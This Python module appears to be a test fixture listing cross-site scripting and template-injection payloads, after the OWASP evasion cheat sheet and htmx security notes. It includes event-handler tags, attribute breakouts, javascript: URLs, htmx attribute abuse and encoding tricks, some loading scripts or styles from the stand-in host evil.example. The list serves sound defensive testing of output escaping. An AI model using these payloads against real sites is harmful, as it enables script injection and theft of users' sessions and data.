"""What people who mean harm put into a name, a subject, a file name or a record: the known kinds of payloads.

Each that would run calls `planted()`, which a test defines, or asks for an address at `evil.example`. Kinds after
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, those of htmx after
https://htmx.org/docs/#security
"""

from __future__ import annotations

BIDI = "\u202egpj.\u2066exe\u2069\u200f"
SEPARATORS = "a\u2028b\u2029c\u0085d\u200be\ufeff"

PAYLOADS: tuple[str, ...] = (
    # Elements that run at once.
    "<script>planted()</script>",
    "</script><script>planted()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=planted()>",
    '"><img src=x onerror=planted()>',
    "'><img src=x onerror=planted()>",
    "><img/src='https://evil.example/p.png'>",
    "<svg onload=planted()>",
    "<svg><script>planted()</script></svg>",
    "<svg><animate onbegin=planted() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=planted()>#x'></use></svg>",
    "<body onload=planted()>",
    "<iframe srcdoc='<script>parent.planted()</script>'></iframe>",
    "<iframe src=javascript:parent.planted()>",
    "<object data=javascript:planted()>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=planted()>",
    "<audio src=x onerror=planted()>",
    "<details open ontoggle=planted()>",
    "<input autofocus onfocus=planted()>",
    "<select autofocus onfocus=planted()>",
    "<marquee onstart=planted()>",
    "<style onload=planted()></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=planted()>",
    "<noscript><p title='</noscript><img src=x onerror=planted()>'>",
    "<template><script>planted()</script></template>",
    "</template><svg onload=planted()>",
    "</textarea><img src=x onerror=planted()>",
    "</title><img src=x onerror=planted()>",
    "</select><img src=x onerror=planted()>",
    "--><img src=x onerror=planted()>",
    "]]><img src=x onerror=planted()>",
    "<!--<img src='--><img src=x onerror=planted()>'>",
    "<x onclick=planted()>x</x>",
    "<a href=javascript:planted()>open</a>",
    # Out of an attribute, quoted in each way.
    '" onmouseover="planted()',
    "' onmouseover='planted()",
    "` onmouseover=`planted()",
    '" autofocus onfocus=planted() x="',
    '" style="position:fixed;inset:0" x="',
    '\\" onload=\\"planted()',
    "x\tonclick=planted()",
    # Addresses.
    "javascript:planted()",
    "JaVaScRiPt:planted()",
    "java\tscript:planted()",
    "\x01javascript:planted()",
    "data:text/html,<script>planted()</script>",
    "vbscript:planted()",
    "//evil.example/",
    "https://evil.example/",
    # Templates, of servers and of clients.
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('planted()')()}}",
    "${planted()}",
    "#{planted()}",
    "<%= planted() %>",
    "%(name)s %s {0}",
    # htmx.
    "<div hx-get=/pane/outlook/ hx-trigger=load>",
    '" hx-get="https://evil.example/" hx-trigger="load" x="',
    "' hx-on:click='planted()' x='",
    '" hx-on::load="planted()" x="',
    '" data-hx-vals="js:{x: planted()}" hx-trigger="load" x="',
    '<div hx-swap-oob="innerHTML:#status"><img src=x onerror=planted()></div>',
    '<div id="status" hx-swap-oob="true">Filed.</div>',
    "<hx-partial hx-target=body><img src=x onerror=planted()></hx-partial>",
    # The page's own names.
    "<a id=filing name=filing href=//evil.example/>",
    "<form name=body id=htmx><input name=config>",
    '<img name="getElementById">',
    "__proto__",
    "constructor",
    # Styles.
    "}*{background:url(https://evil.example/c.png)}",
    "<style>@import 'https://evil.example/x.css';</style>",
    'x" style="background-image:url(https://evil.example/s.png)',
    # What is seen is not what is there.
    BIDI,
    SEPARATORS,
    "&lt;script&gt;planted()&lt;/script&gt;",
    "&#x3C;img src=x onerror=planted()&#x3E;",
    "\uff1cscript\uff1eplanted()\uff1c/script\uff1e",
    "%3Cscript%3Eplanted()%3C/script%3E",
    "\\u003cimg src=x onerror=planted()\\u003e",
    "+ADw-script+AD4-planted()+ADw-/script+AD4-",
)
